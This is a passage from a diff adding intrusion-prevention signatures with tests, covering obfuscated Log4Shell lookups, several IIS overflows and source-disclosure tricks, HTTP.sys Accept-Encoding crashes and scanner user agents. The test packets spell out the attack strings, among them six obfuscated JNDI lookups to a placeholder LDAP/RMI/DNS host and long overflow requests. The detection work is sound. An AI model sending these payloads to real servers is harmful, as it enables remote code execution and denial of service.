+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: OpenVAS\r\n" }
+  expect web_scanner * 12, verdict accept
+}
+test "near miss: a browser, and a page about one" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /wpscan HTTP/1.1\r\nHost: x\r\n" }
+  expect none
+}
+
+/// What `log4shell` does not find: the word `jndi` put together by Log4j itself, letter by letter. The look-ups that do so are no part of any honest request.
+signature log4shell_hidden {
+  id       1000135
+  title    "Log4Shell, hidden"
+  severity critical
+  class    exploit
+  ref      cve "CVE-2021-44228"
+  ref      cve "CVE-2021-45046"
+  ref      mitre "T1190"
+  when     request
+       and (payload contains "${lower:" nocase in uri_first..header_last
+         or payload contains "${upper:" nocase in uri_first..header_last
+         or payload contains "${::-" nocase in uri_first..header_last
+         or payload contains "${env:" nocase in uri_first..header_last
+         or payload contains "${sys:" nocase in uri_first..header_last
+         or payload contains "${date:" nocase in uri_first..header_last)
+  then     log, drop
+}
+test "six ways to hide a letter" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://x/a}\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: ${${upper:j}ndi:ldap://x/a}\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: ${${::-j}ndi:rmi://x/a}\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: ${${env:A:-j}ndi:ldap://x/a}\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: ${${sys:A:-j}ndi:ldap://x/a}\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: ${${date:j}ndi:dns://x/a}\r\n" }
+  expect log4shell_hidden * 6, verdict drop
+}
+test "near miss: a template" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/${lower}case HTTP/1.1\r\n" }
+  expect none
+}
+
+// IIS and WebDAV -------------------------------------------------------------------------------------------------------
+
+/// A condition (RFC 4918 10.4) with a resource whose name is too long for WebDAV in IIS 6.
+signature iis_propfind_overflow {
+  id       1000136
+  title    "IIS 6: overflow in PROPFIND"
+  severity high
+  class    exploit
+  ref      cve "CVE-2017-7269"
+  ref      mitre "T1190"
+  when     tcp.dst_port in web_ports
+       and payload contains "PROPFIND /" at 0
+       and payload contains "\r\nIf: <http://" nocase in 10..511
+       and payload.length > 800
+  then     log, drop
+}
+test "a name that is too long" {
+  packet { ipv4 tcp { dst_port 80 } payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/aaaaaaa" + "A" * 900 }
+  expect iis_propfind_overflow, verdict drop
+}
+test "near miss: an honest lock, a long cookie, another method, mail" {
+  packet { ipv4 tcp { dst_port 80 } payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/a> (Not <DAV:no-lock>)\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nCookie: " + "A" * 900 }
+  packet { ipv4 tcp { dst_port 80 } payload "PROPPATCH / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/a" + "A" * 900 }
+  packet { ipv4 tcp { dst_port 25 } payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/a" + "A" * 900 }
+  expect none
+}
+
+/// The extension for printing over the web, with a host's name that is too long for it.
+signature iis_printer_overflow {
+  id       1000137
+  title    "IIS 5: overflow in .printer"
+  severity high
+  class    exploit
+  ref      cve "CVE-2001-0241"
+  ref      cert "CA-2001-10"
+  when     asks_for(".printer HTTP/") and payload.length > 300
+  then     log, drop
+}
+test "a name that is too long" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /NULL.printer HTTP/1.0\r\nHost: " + "A" * 420 }
+  expect iis_printer_overflow, verdict drop
+}
+test "near miss: a short request, and another page" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /NULL.printer HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /printer.html HTTP/1.0\r\nCookie: " + "A" * 420 }
+  expect none
+}
+
+/// Whatever Code Red, or another, sends to the extension that it came through: a query longer than anybody's.
+signature iis_indexing {
+  id       1000138
+  title    "IIS: indexing service"
+  severity medium
+  class    exploit
+  ref      cve "CVE-2001-0500"
+  ref      cert "CA-2001-13"
+  when     request
+       and (payload contains ".ida?" nocase in uri_first..uri_last or payload contains ".idq?" nocase in uri_first..uri_last)
+       and payload.length > 240
+  then     log, drop
+}
+test "two extensions" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /x.ida?" + "A" * 260 }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /x.idq?" + "A" * 260 }
+  expect iis_indexing * 2, verdict drop
+}
+test "near miss: a short query, and another page" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /default.ida?query=word HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /default.htm?" + "A" * 260 }
+  expect none
+}
+
+/// The name of a file's data in NTFS, or an extension that means another handler, behind a script's name: it was shown and not run.
+signature iis_source {
+  id       1000139
+  title    "IIS: source of a script"
+  severity medium
+  class    exploit
+  ref      cve "CVE-1999-0278"
+  ref      cve "CVE-2000-0630"
+  ref      mitre "T1190"
+  when     request
+       and (payload contains "::$data" nocase in uri_first..uri_last
+         or payload contains "+.htr" nocase in uri_first..uri_last)
+  then     log, drop
+}
+test "two ways" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /default.asp::$DATA HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /global.asa+.htr HTTP/1.1\r\n" }
+  expect iis_source * 2, verdict drop
+}
+test "near miss: other pages" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/$data HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /default.asp HTTP/1.1\r\n" }
+  expect none
+}
+
+/// A list of encodings with an empty entry at its end: Windows' HTTP.sys used what it had given back. These are the two lists that
+/// were published; others that end so are not found, because a list ends where the header does.
+signature http_sys_trailer {
+  id       1000140
+  title    "HTTP.sys: list of encodings that ends in a comma"
+  severity critical
+  class    exploit
+  ref      cve "CVE-2021-31166"
+  ref      cve "CVE-2022-21907"
+  ref      url "https://github.com/0vercl0k/CVE-2021-31166"
+  when     request
+       and (payload contains "\r\nAccept-Encoding: doar-e, ftw, imo, ," nocase in uri_first..header_last
+         or payload contains "\r\nAccept-Encoding: AAAAAAAAAAAAAAAAAAAAAAAA," nocase in uri_first..header_last)
+  then     log, drop
+}
+test "as published" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nAccept-Encoding: doar-e, ftw, imo, ,\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nAccept-Encoding: AAAAAAAAAAAAAAAAAAAAAAAA,BBBB\r\n" }
+  expect http_sys_trailer * 2, verdict drop
+}
+test "near miss: an honest list" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nAccept-Encoding: gzip, deflate, br\r\n" }
   expect none
 }
